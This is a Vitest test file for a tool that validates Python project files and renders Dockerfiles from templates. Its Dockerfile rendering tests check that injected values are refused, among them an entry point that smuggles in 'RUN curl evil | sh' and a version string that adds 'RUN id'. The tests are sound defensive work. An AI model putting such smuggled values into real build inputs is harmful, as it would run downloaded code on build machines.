import path from "node:path";
import { DockerfileParser } from "dockerfile-ast";
import { describe, expect, it } from "vitest";
import type { CodeCheckOutput } from "@procode/contracts";
import {
  imageName,
  imageTag,
  renderDockerfile,
  RenderError,
  startCommand,
} from "../src/runners/dockerfile.js";
import {
  chooseDependencyFile,
  choosePythonVersion,
  findEntryPoint,
  isRequirement,
  parsePyproject,
  parseRequirements,
  satisfies,
  type Pyproject,
} from "../src/runners/python/project.js";
import { checkPythonSyntax } from "../src/runners/python/syntax.js";
import { gitBlobId, resolveTemplatesDir, TemplateCatalog } from "../src/scaffold/templates.js";

const files = (...paths: string[]) => new Set(paths);
const pyproject = (text: string): Pyproject => {
  const r = parsePyproject(text);
  if (!r.ok) throw new Error(r.message);
  return r.value;
};

describe("requirements files, read as pip reads them", () => {
  it("accepts comments, continuations, options, extras, markers, URLs, paths and hashes", () => {
    const text = [
      "# pinned for the agent",
      "--index-url https://pypi.example.com/simple",
      "-r base.txt",
      "requests[socks,security]>=2.31,<3 ; python_version >= '3.10'",
      "fastapi==0.115.0 \\",
      "    --hash=sha256:0123456789abcdef",
      "pydantic ~= 2.8  # inline comment",
      "mylib @ https://example.com/mylib-1.0-py3-none-any.whl",
      "git+https://github.com/org/repo.git#egg=repo",
      "./vendor/tool",
      "uvicorn[standard]",
      "",
    ].join("\n");
    const r = parseRequirements(text, "requirements.txt");
    expect(r.errors).toEqual([]);
    expect(r.requirements).toBe(7);
    expect(r.includes).toEqual([{ path: "base.txt", line: 3 }]);
  });

  it("names the line of each requirement pip would refuse, and suggests == for a single =", () => {
    const r = parseRequirements(
      "flask==3.0\nrequests=2.31\n--frobnicate\nnot a requirement!\n",
      "requirements.txt",
    );
    expect(r.errors).toEqual([
      {
        line: 2,
        message: '"requests=2.31" is not a requirement pip understands; did you mean "requests==2.31"?',
      },
      { line: 3, message: '"--frobnicate" is not an option pip accepts in a requirements file' },
      { line: 4, message: expect.stringContaining('"not a requirement!" is not a requirement') },
    ]);
  });

  it("resolves -r paths relative to the including file", () => {
    expect(parseRequirements("-r ../common.txt\n-c constraints.txt\n", "reqs/prod.txt").includes).toEqual([
      { path: "common.txt", line: 1 },
      { path: "reqs/constraints.txt", line: 2 },
    ]);
  });

  it("knows a PEP 508 requirement from something else", () => {
    expect(isRequirement("httpx[http2]>=0.27; sys_platform != 'win32'")).toBe(true);
    expect(isRequirement("httpx >= ")).toBe(false);
  });
});

describe("pyproject.toml", () => {
  it("is parsed as TOML: a syntax error names its line", () => {
    const r = parsePyproject('[project]\nname = "agent"\nversion = 1.2.3\n');
    expect(r).toEqual({ ok: false, line: 3, message: expect.stringMatching(/Invalid TOML document/) });
  });

  it("reports PEP 621 problems pip would stop at, with their lines", () => {
    const r = parsePyproject('[project]\nversion = "1"\ndependencies = ["requests>=2", "bad dep!"]\n');
    expect(r.ok && r.problems).toEqual([
      { line: 1, message: "[project] has no name (PEP 621 requires it)" },
      { line: 3, message: 'dependency "bad dep!" is not a PEP 508 requirement' },
    ]);
  });

  it("gives requires-python, scripts in order and the declared entry point", () => {
    const p = pyproject(
      '[project]\nname = "a"\nrequires-python = ">=3.10"\n[project.scripts]\nserve = "agent.cli:main"\nother = "x:y"\n[tool.procode]\nentrypoint = "agent/run.py"\n',
    );
    expect({ rp: p.requiresPython, scripts: p.scripts, ep: p.declaredEntryPoint }).toEqual({
      rp: ">=3.10",
      scripts: [
        ["serve", "agent.cli:main"],
        ["other", "x:y"],
      ],
      ep: "agent/run.py",
    });
  });
});

describe("dependency file, entry point and Python version", () => {
  it("prefers pyproject.toml with [project], then requirements.txt, then a [build-system]", () => {
    const withProject = pyproject('[project]\nname = "a"\n');
    const poetry = pyproject('[build-system]\nrequires = ["poetry-core"]\n');
    const bare = pyproject("[tool.black]\nline-length = 100\n");
    expect(chooseDependencyFile(files("pyproject.toml", "requirements.txt"), withProject)).toMatchObject({
      ok: true,
      file: "pyproject.toml",
    });
    expect(chooseDependencyFile(files("pyproject.toml", "requirements.txt"), bare)).toMatchObject({
      ok: true,
      file: "requirements.txt",
    });
    expect(chooseDependencyFile(files("pyproject.toml"), poetry)).toMatchObject({
      ok: true,
      file: "pyproject.toml",
    });
    expect(chooseDependencyFile(files("pyproject.toml"), bare)).toMatchObject({
      ok: false,
      file: "pyproject.toml",
    });
    expect(chooseDependencyFile(files("main.py"), null)).toEqual({
      ok: false,
      message: "no dependency file: add requirements.txt or pyproject.toml at the repository root",
    });
  });

  it("finds the entry point: declared, then [project.scripts], then by convention", () => {
    expect(
      findEntryPoint(
        files("agent/run.py", "main.py"),
        pyproject('[tool.procode]\nentrypoint = "agent/run.py"\n'),
      ),
    ).toMatchObject({
      ok: true,
      entryPoint: "agent/run.py",
    });
    expect(
      findEntryPoint(files("src/agent/serve.py"), pyproject('[tool.procode]\nentrypoint = "agent.serve"\n')),
    ).toMatchObject({
      ok: true,
      entryPoint: "src/agent/serve.py",
    });
    expect(findEntryPoint(files("main.py"), pyproject('[tool.procode]\n\nentrypoint = "nope.py"\n'))).toEqual(
      {
        ok: false,
        file: "pyproject.toml",
        line: 3,
        message:
          '[tool.procode] entrypoint "nope.py" names no Python file of the repository (looked for nope.py)',
      },
    );
    expect(
      findEntryPoint(
        files("agent/cli.py"),
        pyproject('[project]\nname = "a"\n[project.scripts]\nserve = "agent.cli:main"\n'),
      ),
    ).toMatchObject({
      ok: true,
      entryPoint: "serve",
    });
    expect(findEntryPoint(files("app/main.py", "__main__.py"), null)).toMatchObject({
      ok: true,
      entryPoint: "app/main.py",
    });
    expect(findEntryPoint(files("src/agent/__main__.py", "src/agent/x.py"), null)).toMatchObject({
      ok: true,
      entryPoint: "src/agent/__main__.py",
    });
    expect(findEntryPoint(files("lib/util.py"), null)).toMatchObject({
      ok: false,
      message: expect.stringMatching(/^no entry point/),
    });
  });

  it("evaluates requires-python as pip does", () => {
    expect(satisfies([3, 12, 4], ">=3.10,<3.13")).toBe(true);
    expect(satisfies([3, 13, 0], ">=3.10,<3.13")).toBe(false);
    expect(satisfies([3, 11, 2], "~=3.10")).toBe(true);
    expect(satisfies([3, 11, 2], "==3.11.*")).toBe(true);
    expect(satisfies([3, 11, 2], "==3.11")).toBe(false);
    expect(satisfies([3, 9, 1], "!=3.9.*")).toBe(false);
    expect(() => satisfies([3, 12], ">= banana")).toThrow(/not a version specifier/);
  });

  it("takes the Python version from .python-version, else requires-python, else the default", () => {
    expect(choosePythonVersion("3.11\n", null)).toMatchObject({
      ok: true,
      version: "3.11",
      file: ".python-version",
    });
    expect(choosePythonVersion(null, ">=3.9,<3.12")).toMatchObject({ ok: true, version: "3.11" });
    expect(choosePythonVersion(null, null)).toMatchObject({ ok: true, version: "3.12" });
    expect(choosePythonVersion("3.10\n", ">=3.11")).toEqual({
      ok: false,
      file: ".python-version",
      line: 1,
      message: '.python-version 3.10 does not satisfy requires-python ">=3.11"',
    });
    expect(choosePythonVersion("2.7\n", null)).toMatchObject({ ok: false, file: ".python-version" });
    expect(choosePythonVersion(null, "<3.0")).toMatchObject({
      ok: false,
      message: expect.stringMatching(/no supported Python/),
    });
  });
});

describe("syntax check without running the code", () => {
  it("reports file and line of each syntax error, and executes nothing", async () => {
    const marker = path.join("/tmp", `procode-never-${process.pid}`);
    const report = await checkPythonSyntax(
      "python3",
      [
        {
          path: "ok.py",
          content: Buffer.from(`open(${JSON.stringify(marker)}, "w").write("ran")\nprint("hi")\n`),
        },
        { path: "app/broken.py", content: Buffer.from("def f(:\n    pass\n") },
        { path: "app/indent.py", content: Buffer.from("def g():\nreturn 1\n") },
        { path: "app/outside.py", content: Buffer.from("x = 1\nreturn x\n") },
      ],
      AbortSignal.timeout(10_000),
    );
    expect(report.python).toMatch(/^3\./);
    expect(report.problems.map((p) => [p.file, p.line])).toEqual([
      ["app/broken.py", 1],
      ["app/indent.py", 2],
      ["app/outside.py", 2],
    ]);
    expect(report.problems[2]!.message).toMatch(/return.*outside function/);
    const { existsSync } = await import("node:fs");
    expect(existsSync(marker)).toBe(false);
  });

  it("says clearly when the interpreter is missing", async () => {
    await expect(
      checkPythonSyntax("python3-that-does-not-exist", [], AbortSignal.timeout(5000)),
    ).rejects.toThrow(/python3-that-does-not-exist was not found: CODE_CHECK needs Python 3/);
  });
});

describe("Dockerfile rendering", () => {
  const codeCheck = (over: Partial<CodeCheckOutput> = {}): CodeCheckOutput => ({
    commitId: "0123456789abcdef0123456789abcdef01234567",
    checks: [],
    dependencyFile: "requirements.txt",
    entryPoint: "app/main.py",
    pythonVersion: "3.12",
    ...over,
  });

  it("renders the python-agent template into a Dockerfile that parses, pins its base image and runs the entry point", async () => {
    const catalog = await TemplateCatalog.load(resolveTemplatesDir(undefined));
    const template = catalog.forApp(null, "python")!;
    expect(template.name).toBe("python-agent");
    const r = renderDockerfile({
      template: template.dockerfileTemplate,
      templateName: template.name,
      codeCheck: codeCheck(),
      defaultPythonVersion: "3.12",
    });
    const df = DockerfileParser.parse(r.dockerfile);
    const from = df.getFROMs();
    expect(from.map((f) => f.getImageName() + ":" + f.getImageTag())).toEqual(["python:3.12-slim"]);
    const cmd = df.getCMDs();
    expect(cmd).toHaveLength(1);
    expect(cmd[0]!.getArgumentsContent()).toBe('["python","-m","app.main"]');
    expect(r.dockerfile).toContain('io.procode.entrypoint="app/main.py"');
    expect(df.getInstructions().map((i) => i.getKeyword())).toContain("RUN");
    expect(r.dockerfile).toContain("RUN pip install -r requirements.txt");
    expect(r.dockerfile).not.toMatch(/\{\{|\}\}/);
  });

  it("starts each kind of entry point the way it runs", () => {
    expect(startCommand("main.py")).toEqual({ command: ["python", "main.py"], pythonPath: null });
    expect(startCommand("src/agent/__main__.py")).toEqual({
      command: ["python", "-m", "agent"],
      pythonPath: "/app/src",
    });
    expect(startCommand("serve")).toEqual({ command: ["serve"], pythonPath: null });
    expect(startCommand("my-tools/run.py")).toEqual({
      command: ["python", "my-tools/run.py"],
      pythonPath: null,
    });
  });

  it("refuses inputs that would add lines to the Dockerfile", () => {
    const render = (over: Partial<CodeCheckOutput>) =>
      renderDockerfile({
        template: "FROM {{BASE_IMAGE}}\n{{START}}\n",
        templateName: "t",
        codeCheck: codeCheck(over),
        defaultPythonVersion: "3.12",
      });
    expect(() => render({ entryPoint: 'x.py"\nRUN curl evil | sh\n#.py' })).toThrow(RenderError);
    expect(() => render({ pythonVersion: "3.12\nRUN id" })).toThrow(/not a Python version/);
    expect(() => render({ dependencyFile: "setup.py" })).toThrow(/not requirements.txt or pyproject.toml/);
    expect(() =>
      renderDockerfile({
        template: "FROM {{BASE}}\n",
        templateName: "t",
        codeCheck: codeCheck(),
        defaultPythonVersion: "3.12",
      }),
    ).toThrow(/unknown placeholders: BASE/);
  });

  it("makes image names and tags Docker accepts", () => {
    expect(imageName("My Agent (prod)", 7)).toBe("my-agent-prod");
    expect(imageName("智能体", 7)).toBe("app-7");
    expect(imageTag("v1.0.0")).toBe("v1.0.0");
    expect(imageTag("v1.0.0+build/5")).toBe("v1.0.0-build-5");
  });
});

describe("scaffold templates", () => {
  it("computes git blob ids as git does", () => {
    // `printf 'hello\n' | git hash-object --stdin`
    expect(gitBlobId(Buffer.from("hello\n"))).toBe("ce013625030ba8dba906f756967f9e9ca394464a");
  });
});
